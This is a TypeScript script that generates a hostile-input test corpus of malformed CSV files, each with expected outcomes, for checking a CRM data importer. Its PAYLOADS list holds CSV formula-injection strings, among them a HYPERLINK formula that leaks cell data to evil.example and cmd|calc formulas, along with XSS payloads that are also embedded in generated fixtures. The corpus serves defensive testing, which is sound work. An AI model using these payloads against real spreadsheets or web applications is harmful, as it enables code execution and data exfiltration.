// The hostile-input corpus (issue 9): files built to break an importer — broken quoting,
// mixed line endings, NULs, wrong encodings, formula and HTML payloads, absurd numbers and
// dates, huge lines and huge row counts. Small files are written to tests/fixtures/hostile/
// with manifest.json (what each file must produce); files over ~1 MB are only built in memory
// at test time (largeCorpus). Deterministic: no randomness, no clock.
// Usage: npx tsx scripts/make-hostile.ts [--out DIR]
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import iconv from 'iconv-lite';

export type Outcome = 'refused' | 'report';

/** What the pipeline (previewFile, then importBytes with the suggested mapping) must give. */
export interface HostileExpect {
	outcome: Outcome;
	/** Refused: the FileProblem code the user reads (import.problem.*). */
	problem?: 'empty_file' | 'header_only' | 'binary_format' | 'no_rows_accepted' | 'missing_roles';
	/** Refused as binary_format: the format named. */
	format?: string;
	kind?: 'transactions' | 'customers' | 'survey' | 'summary';
	/** Report: rows read (accepted + rejected), accepted, and rejections by reason. */
	rowsRead?: number;
	accepted?: number;
	rejected?: Record<string, number>;
	customers?: number;
	revenue?: number;
	zeroAmounts?: number;
	nulRemoved?: number;
	replacedChars?: number;
	encoding?: string;
	encodingReason?: string;
	/** The first headers as the preview shows them. */
	headers?: string[];
}

export interface HostileFile {
	name: string;
	/** What the file attacks, for the manifest and the docs. */
	about: string;
	/** Where the file lives when it is not generated (csv-spectrum). */
	source?: string;
	bytes: Uint8Array;
	expect: HostileExpect;
}

/** Formula (CSV injection) and HTML/JS payloads, put into every kind of field. */
export const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
	"=cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'<img src=x onerror="window.__pwned=1">',
	'<script>window.__pwned=1</script>',
	'javascript:window.__pwned=1',
	'<svg onload="window.__pwned=1"></svg>',
	'"><img src=x onerror=alert(1)>',
	'{@html "<b onclick=alert(1)>x</b>"}'
];

const utf8 = (s: string) => new TextEncoder().encode(s);

function field(v: string): string {
	return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

function csv(rows: string[][], eol = '\n'): string {
	return rows.map((r) => r.map(field).join(',')).join(eol) + eol;
}

function concat(...parts: Uint8Array[]): Uint8Array {
	const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
	let at = 0;
	for (const p of parts) {
		out.set(p, at);
		at += p.length;
	}
	return out;
}

const HEAD = ['customer_id', 'date', 'amount'];

function mixedLineEndings(): HostileFile {
	// Files glued from several exports: CRLF, LF and lone CR in one file.
	const eols = ['\r\n', '\n', '\r'];
	let text = HEAD.join(',') + '\r\n';
	for (let i = 1; i <= 9; i++) text += `C${i},2024-01-0${i},${i}.50${eols[i % 3]}`;
	return {
		name: 'mixed-line-endings.csv',
		about: 'CRLF, LF and lone CR line endings mixed in one file',
		bytes: utf8(text),
		// 9 rows of 1.50 … 9.50: revenue 45 + 4.5.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 9,
			accepted: 9,
			rejected: {},
			customers: 9,
			revenue: 49.5
		}
	};
}

function unclosedQuote(): HostileFile {
	// Line 7 opens a quote that never closes: the parser reads the rest of the file into that
	// one field. The rows before and after it must survive, and line 7 be reported.
	const lines = [HEAD.join(',')];
	for (let i = 1; i <= 5; i++) lines.push(`C${i},2024-02-0${i},10`);
	lines.push('C6,2024-02-06,"7.00');
	for (let i = 7; i <= 10; i++) lines.push(`C${i},2024-02-${i < 10 ? '0' : ''}${i},10`);
	return {
		name: 'unclosed-quote.csv',
		about: 'a quote opened on line 7 and never closed',
		bytes: utf8(lines.join('\n') + '\n'),
		// Only line 7 is lost: the four rows after it are read again (9 kept × 10 = 90).
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 10,
			accepted: 9,
			rejected: { unclosed_quote: 1 },
			customers: 9,
			revenue: 90
		}
	};
}

function malformedQuotes(): HostileFile {
	// A quote in the middle of an unquoted field (5 "inches") and text after a closing quote.
	const text =
		'customer_id,date,amount,note\n' +
		'C1,2024-03-01,5,plain\n' +
		'C2,2024-03-02,6,5 "inches"\n' +
		'C3,2024-03-03,7,"quoted"tail\n' +
		'C4,2024-03-04,8,plain\n';
	return {
		name: 'malformed-quotes.csv',
		about: 'stray quotes inside unquoted fields and text after a closing quote',
		bytes: utf8(text),
		// The parser keeps a stray quote inside an unquoted field as text (C2) and flags text
		// after a closing quote (C3) as malformed: that row is rejected, the others stay.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 4,
			accepted: 3,
			rejected: { unclosed_quote: 1 },
			customers: 3,
			revenue: 19
		}
	};
}

function columns5000(): HostileFile {
	const width = 5000;
	const header = [...HEAD];
	for (let j = 3; j < width; j++) header.push(`x${j + 1}`);
	const rows = [header];
	for (let i = 1; i <= 20; i++) {
		const r = [`C${i}`, `2024-04-${String(i).padStart(2, '0')}`, `${i}`];
		for (let j = 3; j < width; j++) r.push(`v${(i + j) % 10}`);
		rows.push(r);
	}
	return {
		name: 'columns-5000.csv',
		about: '5,000 columns, 20 rows',
		bytes: utf8(csv(rows)),
		// Amounts 1 … 20: revenue 210.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 20,
			accepted: 20,
			rejected: {},
			customers: 20,
			revenue: 210
		}
	};
}

function duplicateEmptyHeaders(): HostileFile {
	const rows = [['customer_id', 'date', 'amount', '', 'amount', 'note', 'note', '']];
	for (let i = 1; i <= 6; i++)
		rows.push([`C${i}`, `2024-05-0${i}`, `${i}`, 'a', `${100 * i}`, 'n1', 'n2', 'z']);
	return {
		name: 'duplicate-empty-headers.csv',
		about: 'two columns named amount, two named note, two with no name',
		bytes: utf8(csv(rows)),
		// The first "amount" column is the amount: 1 + … + 6 = 21 (not the second, 2,100).
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 6,
			accepted: 6,
			rejected: {},
			customers: 6,
			revenue: 21,
			headers: ['customer_id', 'date', 'amount', 'column 4', 'amount', 'note', 'note', 'column 8']
		}
	};
}

function nulBytes(): HostileFile {
	// Five stray NULs (a broken export) inside fields: removed, counted, rows kept.
	const text = `${HEAD.join(',')}\nC\u00001,2024-06-01,5\nC2,2024-06-0\u00002,6\u0000\nC3\u0000,2024-06-03,7\u0000\n`;
	return {
		name: 'nul-bytes.csv',
		about: 'five NUL bytes inside fields',
		bytes: utf8(text),
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 3,
			accepted: 3,
			rejected: {},
			customers: 3,
			revenue: 18,
			nulRemoved: 5
		}
	};
}

function nulFlood(): HostileFile {
	// Every third byte NUL: a third of the bytes are control bytes, so it is not text.
	const src = utf8('customer_id,date,amount\n'.repeat(80));
	const out: number[] = [];
	for (let i = 0; i < src.length; i++) {
		out.push(src[i]);
		if (i % 2 === 1) out.push(0);
	}
	return {
		name: 'nul-flood.csv',
		about: 'a third of the bytes are NUL (a binary file named .csv)',
		bytes: new Uint8Array(out),
		expect: { outcome: 'refused', problem: 'binary_format', format: 'binary' }
	};
}

function invalidUtf8(): HostileFile {
	// ASCII rows with three bytes that are not UTF-8 (0xFF can start nothing): the file is not
	// valid UTF-8, so it is read as GB18030, where 0xFF is also invalid → three U+FFFD, reported.
	const parts = [
		utf8('customer_id,date,amount,category\nC1,2024-07-01,5,caf'),
		new Uint8Array([0xff]),
		utf8('\nC2,2024-07-02,6,na'),
		new Uint8Array([0xff, 0xff]),
		utf8('ve\nC3,2024-07-03,7,ok\n')
	];
	return {
		name: 'invalid-utf8.csv',
		about: 'bytes that are neither UTF-8 nor GB18030 (0xFF)',
		bytes: concat(...parts),
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 3,
			accepted: 3,
			rejected: {},
			customers: 3,
			revenue: 18,
			replacedChars: 3,
			encoding: 'gb18030',
			encodingReason: 'utf8-invalid'
		}
	};
}

function gbkWithUtf8Bom(): HostileFile {
	const text =
		'客户编号,交易日期,消费金额\nC001,2024-08-01,10\nC002,2024-08-02,20\nC001,2024-08-03,30\n';
	return {
		name: 'gbk-utf8-bom.csv',
		about: 'GBK (GB18030) bytes behind a UTF-8 byte-order mark',
		bytes: concat(new Uint8Array([0xef, 0xbb, 0xbf]), new Uint8Array(iconv.encode(text, 'gbk'))),
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 3,
			accepted: 3,
			rejected: {},
			customers: 2,
			revenue: 60,
			encoding: 'gb18030',
			encodingReason: 'bom-mismatch',
			headers: ['客户编号', '交易日期', '消费金额']
		}
	};
}

function formulasAndHtml(): HostileFile {
	// Payloads as customer ids, dates, amounts, categories and column names. Ids and
	// categories are data (kept, escaped on screen, neutralised in CSV exports); as dates and
	// amounts they are rejected, and their text lands in the report and its CSV download.
	const P = PAYLOADS.length;
	const rows = [['customer_id', 'date', 'amount', 'category', PAYLOADS[0], PAYLOADS[5]]];
	const extra = (i: number) => [PAYLOADS[(i + 1) % P], PAYLOADS[(i + 6) % P]];
	PAYLOADS.forEach((p, i) => rows.push([p, '2024-09-01', '5.00', 'books', ...extra(i)]));
	PAYLOADS.forEach((p, i) => rows.push([`K${i + 1}`, '2024-09-02', '7.00', p, ...extra(i)]));
	PAYLOADS.forEach((p, i) => rows.push([`D${i + 1}`, p, '9.00', 'books', ...extra(i)]));
	PAYLOADS.forEach((p, i) => rows.push([`A${i + 1}`, '2024-09-03', p, 'books', ...extra(i)]));
	return {
		name: 'formulas-html.csv',
		about: 'formula (=, +, -, @) and HTML/JS payloads in ids, dates, amounts, categories, headers',
		bytes: utf8(csv(rows)),
		// P payload ids at 5.00 and P K-ids at 7.00 are kept: 2P customers, revenue 12P;
		// P payload dates and P payload amounts are rejected.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 4 * P,
			accepted: 2 * P,
			rejected: { bad_date: P, bad_amount: P },
			customers: 2 * P,
			revenue: 12 * P,
			headers: ['customer_id', 'date', 'amount', 'category', PAYLOADS[0], PAYLOADS[5]]
		}
	};
}

function extremeNumbers(): HostileFile {
	const amounts = [
		'1e308',
		'-1e308',
		'NaN',
		'-0',
		'1e-320',
		'1e309',
		'Infinity',
		'-Infinity',
		'0x10',
		'1_000',
		'12.50'
	];
	const rows = [HEAD, ...amounts.map((a, i) => [`C${i + 1}`, '2024-10-01', a])];
	return {
		name: 'extreme-numbers.csv',
		about: 'amounts 1e308, -1e308, NaN, -0, 1e-320, 1e309, Infinity, hex, underscores',
		bytes: utf8(csv(rows)),
		// Kept: -0 (a zero amount), 1e-320 (tiny but a number) and 12.50. ±1e308 are numbers
		// too large to add up to the cent (amount_too_large); the rest are not numbers.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 11,
			accepted: 3,
			rejected: { amount_too_large: 2, bad_amount: 6 },
			customers: 3,
			revenue: 12.5,
			zeroAmounts: 1
		}
	};
}

function extremeDates(): HostileFile {
	const dates = [
		'0000-00-00',
		'9999-12-31',
		'1899-12-31',
		'0099-01-01',
		'2024-02-30',
		'2023-02-29',
		'2024-13-01',
		'',
		'2024-02-29',
		'1900-01-01',
		'2024-06-01'
	];
	const rows = [HEAD, ...dates.map((d, i) => [`C${i + 1}`, d, '1'])];
	return {
		name: 'extreme-dates.csv',
		about: 'dates 0000-00-00, 9999-12-31, 1899-12-31, year 99, 30 February, month 13, blank',
		bytes: utf8(csv(rows)),
		// Kept: 2024-02-29 (leap year), 1900-01-01 and 2024-06-01.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 11,
			accepted: 3,
			rejected: { bad_date: 6, date_in_future: 1, date_before_1900: 1 },
			customers: 3,
			revenue: 3
		}
	};
}

function controlCharacters(): HostileFile {
	// Terminal escapes, DEL, a right-to-left override and zero-width characters in ids.
	const text =
		`${HEAD.join(',')}\n` +
		'\u001b[31mC1,2024-11-01,1\n' +
		'C2\u007f,2024-11-02,2\n' +
		'\u202eC3,2024-11-03,3\n' +
		'C\u200b4,2024-11-04,4\n' +
		'\u0007C5\u0008,2024-11-05,5\n';
	return {
		name: 'control-characters.csv',
		about: 'ANSI escape, DEL, BEL, backspace, right-to-left override, zero-width space in ids',
		bytes: utf8(text),
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 5,
			accepted: 5,
			rejected: {},
			customers: 5,
			revenue: 15
		}
	};
}

function raggedRows(): HostileFile {
	const text =
		`${HEAD.join(',')}\n` +
		'C1,2024-12-01,1\n' +
		'C2,2024-12-02\n' +
		'C3\n' +
		'C4,2024-12-04,4,extra,more,fields\n' +
		',,\n' +
		'C6,2024-12-06,6\n';
	return {
		name: 'ragged-rows.csv',
		about: 'rows with too few fields, too many fields, and only delimiters',
		bytes: utf8(text),
		// C2 and C3 lack fields; ",," has no customer; C4's extra fields are ignored.
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 6,
			accepted: 3,
			rejected: { too_few_fields: 2, missing_customer: 1 },
			customers: 3,
			revenue: 11
		}
	};
}

function quoteStorm(): HostileFile {
	// One field of 60,000 escaped quotes (a quoted field of 30,000 '"' characters).
	const storm = '"' + '""'.repeat(30_000) + '"';
	const text = `customer_id,date,amount,note\nC1,2024-01-10,1,plain\nC2,2024-01-11,2,${storm}\nC3,2024-01-12,3,plain\n`;
	return {
		name: 'quote-storm.csv',
		about: 'a field of 30,000 escaped quote characters',
		bytes: utf8(text),
		expect: {
			outcome: 'report',
			kind: 'transactions',
			rowsRead: 3,
			accepted: 3,
			rejected: {},
			customers: 3,
			revenue: 6
		}
	};
}

function refusals(): HostileFile[] {
	const png = concat(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), utf8('x'));
	return [
		{
			name: 'empty.csv',
			about: 'zero bytes',
			bytes: new Uint8Array(0),
			expect: { outcome: 'refused', problem: 'empty_file' }
		},
		{
			name: 'bom-only.csv',
			about: 'a UTF-8 byte-order mark and nothing else',
			bytes: new Uint8Array([0xef, 0xbb, 0xbf]),
			expect: { outcome: 'refused', problem: 'empty_file' }
		},
		{
			name: 'blank-lines.csv',
			about: '10,000 blank lines of spaces, tabs and line breaks',
			bytes: utf8(' \t\r\n\n'.repeat(10_000)),
			expect: { outcome: 'refused', problem: 'empty_file' }
		},
		{
			name: 'header-only.csv',
			about: 'a header and no rows',
			bytes: utf8('customer_id,date,amount\r\n'),
			expect: { outcome: 'refused', problem: 'header_only' }
		},
		{
			name: 'all-rejected.csv',
			about: 'a well-formed file none of whose rows is valid',
			bytes: utf8('customer_id,date,amount\nC1,soon,1\nC2,later,2\n,2024-01-01,3\n'),
			expect: { outcome: 'refused', problem: 'no_rows_accepted' }
		},
		{
			name: 'image.png.csv',
			about: 'a PNG image renamed to .csv',
			bytes: png,
			expect: { outcome: 'refused', problem: 'binary_format', format: 'png' }
		},
		{
			name: 'page.csv',
			about: 'an HTML page with a script, renamed to .csv',
			bytes: utf8(
				'<!DOCTYPE html><html><body><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1"></body></html>\n'
			),
			expect: { outcome: 'refused', problem: 'binary_format', format: 'html' }
		}
	];
}

/** The csv-spectrum conformance files: none is CRM data; each becomes a customers table. */
function csvSpectrum(root = join('node_modules', 'csv-spectrum')): HostileFile[] {
	const names = readdirSync(join(root, 'csvs')).sort();
	return names.map((f) => {
		const json = JSON.parse(readFileSync(join(root, 'json', f.replace(/\.csv$/, '.json')), 'utf8'));
		const records: Record<string, string>[] = Array.isArray(json) ? json : [json];
		const firstColumn = records.map((r) => Object.values(r)[0]);
		return {
			name: `csv-spectrum-${f}`,
			about: `csv-spectrum ${f}`,
			source: join(root, 'csvs', f),
			bytes: new Uint8Array(readFileSync(join(root, 'csvs', f))),
			// Without dates or amounts the file is read as a customer table keyed by its first
			// column: every record of the published JSON is a row, its first values the ids.
			expect: {
				outcome: 'report',
				kind: 'customers',
				rowsRead: records.length,
				accepted: records.length,
				rejected: {},
				customers: new Set(firstColumn).size
			}
		};
	});
}

/** Every small hostile file (csv-spectrum included, read from node_modules). */
export function smallCorpus(): HostileFile[] {
	return [
		mixedLineEndings(),
		unclosedQuote(),
		malformedQuotes(),
		columns5000(),
		duplicateEmptyHeaders(),
		nulBytes(),
		nulFlood(),
		invalidUtf8(),
		gbkWithUtf8Bom(),
		formulasAndHtml(),
		extremeNumbers(),
		extremeDates(),
		controlCharacters(),
		raggedRows(),
		quoteStorm(),
		...refusals(),
		...csvSpectrum()
	];
}

export interface LargeHostile {
	name: string;
	about: string;
	make: () => Uint8Array;
	expect: HostileExpect;
}

const TEN_MB = 10 * 1024 * 1024;

/** Builds a CSV of `n` rows from a row function into one buffer, without a giant string. */
function manyRows(header: string, n: number, row: (i: number) => string): Uint8Array {
	const parts: string[] = [header];
	for (let i = 0; i < n; i++) parts.push(row(i));
	return utf8(parts.join('\n') + '\n');
}

/** Files generated at test time (never committed): 10 MB lines and a million rows. */
export function largeCorpus(): LargeHostile[] {
	return [
		{
			name: 'long-fields-10mb.csv',
			about: 'a 10 MB amount (digits then a letter) and a 10 MB customer id',
			make: () =>
				utf8(
					'customer_id,date,amount\nC1,2024-01-01,5\n' +
						`C2,2024-01-02,${'1'.repeat(TEN_MB)}x\n` +
						`${'C'.repeat(TEN_MB)},2024-01-03,7\n` +
						'C4,2024-01-04,9\n'
				),
			// Cells longer than a spreadsheet cell can hold (32,767 characters) are rejected.
			expect: {
				outcome: 'report',
				kind: 'transactions',
				rowsRead: 4,
				accepted: 2,
				rejected: { cell_too_long: 2 },
				customers: 2,
				revenue: 14
			}
		},
		{
			name: 'one-line-10mb.csv',
			about: '10 MB with no line break at all',
			make: () => utf8('a,'.repeat(TEN_MB / 2)),
			expect: { outcome: 'refused', problem: 'header_only' }
		},
		{
			name: 'one-customer-1m.csv',
			about: '1,000,000 rows of one customer',
			// Dates cycle over 1,000 days and amounts over 1,009 cents: no two rows are equal
			// (1,000 and 1,009 are coprime, so the pair repeats only after 1,009,000 rows).
			make: () => {
				const days = isoDays(1000);
				return manyRows(
					'customer_id,date,amount',
					1_000_000,
					(i) => `C1,${days[i % 1000]},${((i % 1009) + 1) / 100}`
				);
			},
			// 10^6 = 991 × 1,009 + 81: 991 cycles of (1 + … + 1,009) / 100 = 5,095.45 each,
			// plus (1 + … + 81) / 100 = 33.21 → 5,049,624.16.
			expect: {
				outcome: 'report',
				kind: 'transactions',
				rowsRead: 1_000_000,
				accepted: 1_000_000,
				rejected: {},
				customers: 1,
				revenue: 5_049_624.16
			}
		},
		{
			name: 'customers-1m.csv',
			about: '1,000,000 customers with one row each',
			make: () => {
				const days = isoDays(1000);
				return manyRows(
					'customer_id,date,amount',
					1_000_000,
					(i) => `C${String(i).padStart(7, '0')},${days[i % 1000]},1`
				);
			},
			expect: {
				outcome: 'report',
				kind: 'transactions',
				rowsRead: 1_000_000,
				accepted: 1_000_000,
				rejected: {},
				customers: 1_000_000,
				revenue: 1_000_000
			}
		}
	];
}

/** ISO dates of the first `n` days from 2020-01-01. */
function isoDays(n: number): string[] {
	const start = Date.UTC(2020, 0, 1);
	return Array.from({ length: n }, (_, i) =>
		new Date(start + i * 86_400_000).toISOString().slice(0, 10)
	);
}

/** Manifest rows: everything but the bytes. */
export function manifest(files: HostileFile[]) {
	return files.map(({ name, about, source, expect, bytes }) => ({
		name,
		about,
		...(source ? { source } : {}),
		bytes: bytes.length,
		expect
	}));
}

export const HOSTILE_DIR = join('tests', 'fixtures', 'hostile');

function main() {
	const at = process.argv.indexOf('--out');
	const out = at > 0 ? process.argv[at + 1] : HOSTILE_DIR;
	mkdirSync(out, { recursive: true });
	const files = smallCorpus();
	for (const f of files) if (!f.source) writeFileSync(join(out, f.name), f.bytes);
	writeFileSync(join(out, 'manifest.json'), JSON.stringify(manifest(files), null, '\t') + '\n');
	console.log(`${files.length} files (${files.filter((f) => !f.source).length} written) → ${out}`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) main();
